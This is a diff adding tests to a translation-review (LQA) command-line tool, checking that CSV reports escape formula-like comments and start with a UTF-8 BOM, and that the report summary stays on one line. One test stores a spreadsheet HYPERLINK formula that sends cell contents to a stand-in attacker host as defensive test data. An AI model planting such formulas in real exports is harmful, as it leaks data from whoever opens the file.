@@ -120,3 +120,29 @@ def test_list_of_a_segment_of_another_document_is_refused(in_tmp: Path, sample_d
     refused = lqa(sample_db, "list", "--doc", "other", "--segment", "5")
     assert refused.exit_code == 2 and "segment 5 is not in document 'other'" in refused.stderr
     assert lqa(sample_db, "list", "--doc", "sample", "--segment", "5").exit_code == 0
+
+def test_csv_report_is_safe_to_open_in_a_spreadsheet(in_tmp: Path, sample_db: Path) -> None:
+    """A comment or quote that looks like a formula is not run by a spreadsheet, and the file
+    starts with a BOM so that the Arabic and curly quotes are read as UTF-8."""
+    lqa(sample_db, "add", "3", "--category", "style", "--severity", "minor", "--span", "0:3",
+        "--comment", '=HYPERLINK("http://evil.example/?"&A1,"click")')
+    lqa(sample_db, "add", "4", "--category", "style", "--severity", "minor",
+        "--comment", "-2+3 ’quoted’ @once")
+    rows = list(csv.DictReader(io.StringIO(lqa(sample_db, "report", "--format", "csv").stdout)))
+    assert [r["comment"] for r in rows] == [
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'-2+3 ’quoted’ @once",
+    ]
+    assert rows[0]["quote"] == "The" and rows[0]["span_start"] == "0"
+    out = in_tmp / "lqa.csv"
+    assert lqa(sample_db, "report", "--format", "csv", "--output", str(out)).exit_code == 1
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbfid,line,")
+    assert list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))) == rows
+
+
+def test_the_summary_is_one_line_at_any_width(in_tmp: Path, sample_db: Path) -> None:
+    """The table's last line is the whole summary (it was wrapped at 80 columns)."""
+    lqa(sample_db, "add", "3", "--category", "style", "--severity", "minor",
+        "--comment", "x")
+    last = lqa(sample_db, "report").stdout.rstrip("\n").splitlines()[-1]
+    assert last.startswith("LQA ") and last.endswith("threshold 99: FAIL")
